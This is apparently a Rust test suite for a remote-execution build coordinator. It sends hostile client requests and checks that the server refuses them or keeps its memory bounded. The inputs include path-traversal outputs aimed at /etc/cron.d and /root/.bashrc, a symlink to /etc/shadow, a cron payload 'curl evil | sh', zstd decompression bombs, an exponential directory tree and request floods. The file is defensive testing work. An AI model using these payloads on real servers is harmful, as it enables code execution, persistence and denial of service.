//! What a hostile client can send a coordinator over the wire, sent for
//! real: results that would poison the action cache, and trees built to
//! wedge the server. Each must be refused (or answered) without harm.

mod common;

use std::time::Duration;

use bytes::Bytes;
use casbuild_cas::digest::Digest;
use casbuild_proto::reapi::capabilities_client::CapabilitiesClient;
use casbuild_proto::reapi::execution_client::ExecutionClient;
use casbuild_proto::reapi::{
    Action, ActionResult, Command, Directory, DirectoryNode, FileNode, GetActionResultRequest, GetCapabilitiesRequest,
    OutputDirectory, OutputFile, Tree, UpdateActionResultRequest,
};
use common::execute::{blob, execute, execute_request, upload, F};
use common::Coordinator;
use tonic::Code;

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap()
}

async fn update(server: &Coordinator, action: &Digest, result: ActionResult) -> Result<(), tonic::Status> {
    let request = UpdateActionResultRequest {
        action_digest: Some(action.to_proto()),
        action_result: Some(result),
        digest_function: F.to_proto() as i32,
        ..Default::default()
    };
    server.action_cache().await.update_action_result(request).await.map(drop)
}

#[test]
#[allow(deprecated)] // output_file_symlinks: REAPI's older list, which servers still fill
fn results_that_would_poison_the_action_cache_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        let payload = Bytes::from_static(b"* * * * * root curl evil | sh\n");
        let payload_digest = F.digest_of(&payload);
        upload(&server, vec![(payload_digest, payload)]).await;
        let action = F.digest_of(b"a victim's action");
        let file = |path: &str| OutputFile {
            path: path.into(),
            digest: Some(payload_digest.to_proto()),
            ..Default::default()
        };

        for path in ["../../etc/cron.d/x", "/root/.bashrc", "a/../../b", "a//b", "./a", ""] {
            let result = ActionResult { output_files: vec![file(path)], ..Default::default() };
            let status = update(&server, &action, result).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{path:?}: {status:?}");
        }

        // One path as a file and as a link (which would a client make?), or
        // as two different links.
        let link = |target: &str| casbuild_proto::reapi::OutputSymlink {
            path: "x".into(),
            target: target.into(),
            ..Default::default()
        };
        let both =
            ActionResult { output_files: vec![file("x")], output_symlinks: vec![link("y")], ..Default::default() };
        let twice = ActionResult {
            output_symlinks: vec![link("y")],
            output_file_symlinks: vec![link("/etc/shadow")],
            ..Default::default()
        };
        for result in [both, twice] {
            let status = update(&server, &action, result).await.unwrap_err();
            assert!(status.message().contains("appears twice"), "{status:?}");
        }

        // An output directory whose Tree names an entry `..`.
        let evil = Directory {
            files: vec![FileNode { name: "..".into(), digest: Some(payload_digest.to_proto()), ..Default::default() }],
            ..Default::default()
        };
        let tree = Tree { root: Some(evil), children: vec![] };
        let (tree_digest, tree_bytes) = blob(&tree);
        upload(&server, vec![(tree_digest, tree_bytes)]).await;
        let result = ActionResult {
            output_directories: vec![OutputDirectory {
                path: "out".into(),
                tree_digest: Some(tree_digest.to_proto()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let status = update(&server, &action, result).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("\"..\""), "{}", status.message());

        // A result naming blobs the CAS does not have.
        let absent = F.digest_of(b"never uploaded");
        let output = OutputFile { path: "out".into(), digest: Some(absent.to_proto()), ..Default::default() };
        let result = ActionResult { output_files: vec![output], ..Default::default() };
        let status = update(&server, &action, result).await.unwrap_err();
        assert_eq!(status.code(), Code::FailedPrecondition, "{status:?}");
        assert!(status.message().contains(&absent.hash_hex()), "{}", status.message());

        // Nothing of it was stored; a well-formed, complete result is.
        let get = || GetActionResultRequest {
            action_digest: Some(action.to_proto()),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let missed = server.action_cache().await.get_action_result(get()).await.unwrap_err();
        assert_eq!(missed.code(), Code::NotFound);
        // The same link in both lists, as REAPI servers send them, is fine.
        let same = ActionResult {
            output_files: vec![file("bazel-out/x")],
            output_symlinks: vec![link("y")],
            output_file_symlinks: vec![link("y")],
            ..Default::default()
        };
        update(&server, &action, same).await.unwrap();
        server.action_cache().await.get_action_result(get()).await.unwrap();
    });
}

#[test]
fn a_tree_that_names_each_child_twice_does_not_wedge_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        // 60 levels, each naming its child twice: 2^60 paths, 61 Directories.
        let absent = F.digest_of(b"a file nobody uploaded");
        let leaf = Directory {
            files: vec![FileNode { name: "f".into(), digest: Some(absent.to_proto()), ..Default::default() }],
            ..Default::default()
        };
        let (mut root, bytes) = blob(&leaf);
        let mut blobs = vec![(root, bytes)];
        for _ in 0..60 {
            let node = |name: &str| DirectoryNode { name: name.into(), digest: Some(root.to_proto()) };
            let (digest, bytes) = blob(&Directory { directories: vec![node("a"), node("b")], ..Default::default() });
            blobs.push((digest, bytes));
            root = digest;
        }
        let command = Command { arguments: vec!["true".into()], ..Default::default() };
        let (command_digest, command_bytes) = blob(&command);
        let action = Action {
            command_digest: Some(command_digest.to_proto()),
            input_root_digest: Some(root.to_proto()),
            ..Default::default()
        };
        let (action_digest, action_bytes) = blob(&action);
        blobs.extend([(command_digest, command_bytes), (action_digest, action_bytes)]);
        upload(&server, blobs).await;
        let before = resident_bytes(server.pid());

        let mut client = ExecutionClient::new(server.channel().await);
        let bounded = Duration::from_secs(60);
        let response = tokio::time::timeout(bounded, execute(&mut client, execute_request(&action_digest, true)))
            .await
            .expect("Execute answers");
        let status = response.status.unwrap();
        assert_eq!(status.code, Code::FailedPrecondition as i32, "{}", status.message);
        assert!(status.message.contains(&absent.hash_hex()), "{}", status.message);
        // The server still serves everyone else.
        let mut capabilities = CapabilitiesClient::new(server.channel().await);
        tokio::time::timeout(bounded, capabilities.get_capabilities(GetCapabilitiesRequest::default()))
            .await
            .expect("GetCapabilities answers")
            .unwrap();
        let grown = resident_bytes(server.pid()).saturating_sub(before);
        assert!(grown < 64 << 20, "the walk grew the server by {} MiB", grown >> 20);
    });
}

#[test]
fn batch_limits_hold_for_declared_and_decompressed_sizes() {
    use casbuild_proto::reapi::{
        batch_update_blobs_request, compressor, BatchReadBlobsRequest, BatchUpdateBlobsRequest,
    };
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        let before = resident_bytes(server.pid());
        // 32 KiB of "zstd" declaring a 1 GiB blob: refused before decompression.
        let huge = casbuild_proto::reapi::Digest { hash: F.digest_of(b"bomb").hash_hex(), size_bytes: 1 << 30 };
        let bomb = batch_update_blobs_request::Request {
            digest: Some(huge),
            data: vec![0u8; 32 << 10],
            compressor: compressor::Value::Zstd as i32,
        };
        let request = BatchUpdateBlobsRequest {
            requests: vec![bomb],
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let status = server.cas().await.batch_update_blobs(request).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("batch limit"), "{}", status.message());

        // Declared sizes that add up to 2^64 (zero, if the sum wrapped).
        let sized = |seed: &[u8], size: i64| casbuild_proto::reapi::Digest {
            hash: F.digest_of(seed).hash_hex(),
            size_bytes: size,
        };
        let request = BatchReadBlobsRequest {
            digests: vec![sized(b"a", i64::MAX), sized(b"b", i64::MAX), sized(b"c", 2)],
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let status = server.cas().await.batch_read_blobs(request).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");

        // A real bomb: 256 MiB of zeros in a few KiB of zstd, declared as
        // 100 bytes, by batch and by ByteStream.
        let bomb = {
            let mut encoder = zstd::stream::Encoder::new(Vec::new(), 19).unwrap();
            let zeros = vec![0u8; 1 << 20];
            for _ in 0..256 {
                std::io::Write::write_all(&mut encoder, &zeros).unwrap();
            }
            encoder.finish().unwrap()
        };
        assert!(bomb.len() < 64 << 10, "{} bytes", bomb.len());
        let small = casbuild_proto::reapi::Digest { hash: F.digest_of(&[0u8; 100]).hash_hex(), size_bytes: 100 };
        let request = BatchUpdateBlobsRequest {
            requests: vec![batch_update_blobs_request::Request {
                digest: Some(small.clone()),
                data: bomb.clone(),
                compressor: compressor::Value::Zstd as i32,
            }],
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let response = server.cas().await.batch_update_blobs(request).await.unwrap().into_inner();
        let status = response.responses[0].status.clone().unwrap();
        assert_eq!(status.code, Code::InvalidArgument as i32, "{status:?}");
        let write = casbuild_proto::bytestream::WriteRequest {
            resource_name: format!("uploads/bomb/compressed-blobs/zstd/{}/100", small.hash),
            write_offset: 0,
            finish_write: true,
            data: bomb,
        };
        let status = server.bytestream().await.write(futures::stream::iter([write])).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        let grown = resident_bytes(server.pid()).saturating_sub(before);
        assert!(grown < 64 << 20, "the server grew by {} MiB", grown >> 20);
    });
}

#[test]
fn cancelling_a_shared_operation_detaches_only_the_caller() {
    use casbuild_proto::longrunning::operations_client::OperationsClient;
    use casbuild_proto::longrunning::{CancelOperationRequest, GetOperationRequest};
    use common::execute::{operations, response_of, shell_action};
    if !common::needs_root("cancelling_a_shared_operation_detaches_only_the_caller", true) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start_up(&dir.path().join("up"));
    runtime().block_on(async {
        let (action, blobs) = shell_action("sleep 2; echo shared > out");
        upload(&server, blobs).await;
        let channel = server.channel().await;
        let mut a =
            ExecutionClient::new(channel.clone()).execute(execute_request(&action, true)).await.unwrap().into_inner();
        let mut b =
            ExecutionClient::new(channel.clone()).execute(execute_request(&action, true)).await.unwrap().into_inner();
        let a_name = a.message().await.unwrap().unwrap().name;
        let b_name = b.message().await.unwrap().unwrap().name;
        assert_ne!(a_name, b_name, "each requester has an operation of its own");

        // A gives up; B still gets the result.
        let mut ops = OperationsClient::new(channel.clone());
        ops.cancel_operation(CancelOperationRequest { name: a_name.clone() }).await.unwrap();
        let last = operations(b).await.pop().unwrap();
        assert_eq!(last.name, b_name);
        let response = response_of(&last);
        assert_eq!(response.status.unwrap_or_default().code, 0);
        assert_eq!(response.result.unwrap().output_files.len(), 1, "the shared job ran to its end");

        let a_op = ops.get_operation(GetOperationRequest { name: a_name }).await.unwrap().into_inner();
        assert!(a_op.done);
        assert_eq!(response_of(&a_op).status.unwrap().code, Code::Cancelled as i32);
    });
}

#[test]
fn an_asset_checksum_must_match_the_content_it_names() {
    use base64::Engine;
    use casbuild_proto::asset::fetch_client::FetchClient;
    use casbuild_proto::asset::push_client::PushClient;
    use casbuild_proto::asset::{FetchBlobRequest, PushBlobRequest, Qualifier};
    use sha2::Digest as _;
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        let tarball = Bytes::from_static(b"the real release tarball");
        let digest = F.digest_of(&tarball);
        upload(&server, vec![(digest, tarball.clone())]).await;
        let sri = |data: &[u8]| {
            format!("sha256-{}", base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(data)))
        };
        let qualifier = |value: String| vec![Qualifier { name: "checksum.sri".into(), value }];
        let push = |value: String| PushBlobRequest {
            uris: vec!["https://example.org/release.tar.gz".into()],
            qualifiers: qualifier(value),
            blob_digest: Some(digest.to_proto()),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let mut client = PushClient::new(server.channel().await);
        // A push vouching for other bytes than the blob's is refused.
        let status = client.push_blob(push(sri(b"a trojaned tarball"))).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{status:?}");
        assert!(status.message().contains("does not match"), "{}", status.message());
        let status = client.push_blob(push("md5-AAAA".into())).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument);
        // The true checksum is accepted and served.
        client.push_blob(push(sri(&tarball))).await.unwrap();
        let fetch = FetchBlobRequest {
            uris: vec!["https://example.org/release.tar.gz".into()],
            qualifiers: qualifier(sri(&tarball)),
            digest_function: F.to_proto() as i32,
            ..Default::default()
        };
        let found = FetchClient::new(server.channel().await).fetch_blob(fetch).await.unwrap().into_inner();
        assert_eq!(found.blob_digest.unwrap().hash, digest.hash_hex());
    });
}

#[test]
fn instance_names_are_checked_before_they_cost_anything() {
    use casbuild_proto::reapi::FindMissingBlobsRequest;
    let dir = tempfile::tempdir().unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &[]);
    runtime().block_on(async {
        for instance in ["x".repeat(10_000), "a/../b".into(), "with space".into(), "team/blobs".into()] {
            let request = FindMissingBlobsRequest {
                instance_name: instance.clone(),
                blob_digests: vec![F.digest_of(b"x").to_proto()],
                digest_function: F.to_proto() as i32,
            };
            let status = server.cas().await.find_missing_blobs(request).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{instance:.40}: {status:?}");
            let get = GetActionResultRequest {
                instance_name: instance.clone(),
                action_digest: Some(F.digest_of(b"a").to_proto()),
                digest_function: F.to_proto() as i32,
                ..Default::default()
            };
            let status = server.action_cache().await.get_action_result(get).await.unwrap_err();
            assert_eq!(status.code(), Code::InvalidArgument, "{instance:.40}: {status:?}");
        }
        // A plain path-like name works.
        let request = FindMissingBlobsRequest {
            instance_name: "team/main".into(),
            blob_digests: vec![],
            digest_function: F.to_proto() as i32,
        };
        server.cas().await.find_missing_blobs(request).await.unwrap();
    });
}

/// The resident memory of process `pid`, in bytes.
fn resident_bytes(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() * 1024
}

/// Asks for the server's capabilities every 50 ms until `stop` is set and
/// fails if one answer takes longer than `bound`: the server must keep
/// serving others while an attack goes on. Returns how many answers came.
async fn probe_capabilities(
    server: &Coordinator,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    bound: Duration,
) -> tokio::task::JoinHandle<usize> {
    let mut client = server.capabilities().await;
    tokio::spawn(async move {
        let mut answers = 0;
        while !stop.load(std::sync::atomic::Ordering::Relaxed) {
            tokio::time::timeout(bound, client.get_capabilities(GetCapabilitiesRequest::default()))
                .await
                .expect("GetCapabilities answers during the attack")
                .unwrap();
            answers += 1;
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        answers
    })
}

#[test]
fn a_flood_of_instance_names_is_refused_beyond_the_bound_and_costs_bounded_memory() {
    use casbuild_proto::reapi::FindMissingBlobsRequest;
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("coordinator.toml");
    std::fs::write(&config, "[limits]\ninstances = 2000\n").unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &["--config", config.to_str().unwrap()]);
    runtime().block_on(async {
        let cas = server.cas().await;
        let find = |instance: String| {
            let mut cas = cas.clone();
            async move {
                let request = FindMissingBlobsRequest {
                    instance_name: instance,
                    blob_digests: vec![F.digest_of(b"x").to_proto()],
                    digest_function: F.to_proto() as i32,
                };
                cas.find_missing_blobs(request).await
            }
        };
        find("warm/up".into()).await.unwrap();
        let before = resident_bytes(server.pid());
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let probe = probe_capabilities(&server, stop.clone(), Duration::from_secs(5)).await;

        // 3,000 new names from 8 callers at once: the first ones are served,
        // every one beyond the bound is refused.
        let (mut served, mut refused) = (0, 0);
        for wave in 0..375 {
            let calls = (0..8).map(|i| find(format!("flood/{wave}/{i}")));
            for result in futures::future::join_all(calls).await {
                match result {
                    Ok(_) => served += 1,
                    Err(status) => {
                        assert_eq!(status.code(), Code::ResourceExhausted, "{status:?}");
                        assert!(status.message().contains("instance names"), "{}", status.message());
                        refused += 1;
                    }
                }
            }
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let answers = tokio::time::timeout(Duration::from_secs(10), probe).await.unwrap().unwrap();
        assert!(answers > 0);
        // The default instance and "warm/up" count too.
        assert_eq!(served, 1998, "served {served}, refused {refused}");
        assert_eq!(refused, 1002);
        // Known names keep working.
        find("flood/0/0".into()).await.unwrap();
        let grown = resident_bytes(server.pid()).saturating_sub(before);
        // Built views are an LRU of 1,024 and existence filters one of 64
        // (1 MiB each): a flood costs tens of MiB at most, not a MiB per name.
        assert!(grown < 96 << 20, "the server grew by {} MiB", grown >> 20);
        eprintln!("3,000 instance names: resident memory grew by {} KiB", grown >> 10);
    });
}

#[test]
fn a_flood_of_failed_operations_is_retained_within_its_bound() {
    use casbuild_coordinator::status::PreconditionFailure;
    use casbuild_proto::longrunning::operations_client::OperationsClient;
    use casbuild_proto::longrunning::GetOperationRequest;
    use common::execute::response_of;
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("coordinator.toml");
    std::fs::write(&config, "[limits]\nfinished_operations = 20\n").unwrap();
    let server = Coordinator::start(&dir.path().join("storage"), &["--config", config.to_str().unwrap()]);
    runtime().block_on(async {
        // Each action's input root names 6,000 files nobody uploaded.
        let files: Vec<FileNode> = (0..6000)
            .map(|i| FileNode {
                name: format!("f{i:05}"),
                digest: Some(F.digest_of(format!("absent {i}").as_bytes()).to_proto()),
                ..Default::default()
            })
            .collect();
        let (root, root_bytes) = blob(&Directory { files, ..Default::default() });
        let (command, command_bytes) = blob(&Command { arguments: vec!["true".into()], ..Default::default() });
        let mut blobs = vec![(root, root_bytes), (command, command_bytes)];
        let mut actions = Vec::new();
        for i in 0..60 {
            let action = Action {
                command_digest: Some(command.to_proto()),
                input_root_digest: Some(root.to_proto()),
                salt: format!("{i}").into_bytes(),
                ..Default::default()
            };
            let (digest, bytes) = blob(&action);
            blobs.push((digest, bytes));
            actions.push(digest);
        }
        upload(&server, blobs).await;

        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let probe = probe_capabilities(&server, stop.clone(), Duration::from_secs(5)).await;
        let mut client = ExecutionClient::new(server.channel().await);
        let mut names = Vec::new();
        for action in &actions {
            let stream = client.execute(execute_request(action, true)).await.unwrap().into_inner();
            let last = common::execute::operations(stream).await.pop().unwrap();
            let status = response_of(&last).status.unwrap();
            assert_eq!(status.code, Code::FailedPrecondition as i32);
            // The message counts every missing blob and names a few; the
            // details list at most 5,000.
            assert!(status.message.starts_with("6000 input blob(s) missing"), "{:.100}", status.message);
            assert!(status.message.len() < 2048, "a {} byte message", status.message.len());
            let failure: PreconditionFailure = prost::Message::decode(&status.details[0].value[..]).unwrap();
            assert_eq!(failure.violations.len(), 5000);
            names.push(last.name);
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        tokio::time::timeout(Duration::from_secs(10), probe).await.unwrap().unwrap();

        // Only the 20 most recent are still kept.
        let mut ops = OperationsClient::new(server.channel().await);
        let get = |name: &String| GetOperationRequest { name: name.clone() };
        let status = ops.get_operation(get(&names[0])).await.unwrap_err();
        assert_eq!(status.code(), Code::NotFound, "{status:?}");
        let kept = futures::future::join_all(names.iter().map(|n| {
            let mut ops = ops.clone();
            async move { ops.get_operation(get(n)).await.is_ok() }
        }))
        .await;
        assert_eq!(kept.iter().filter(|k| **k).count(), 20);
        assert!(kept[40..].iter().all(|k| *k), "the most recent are kept");
    });
}
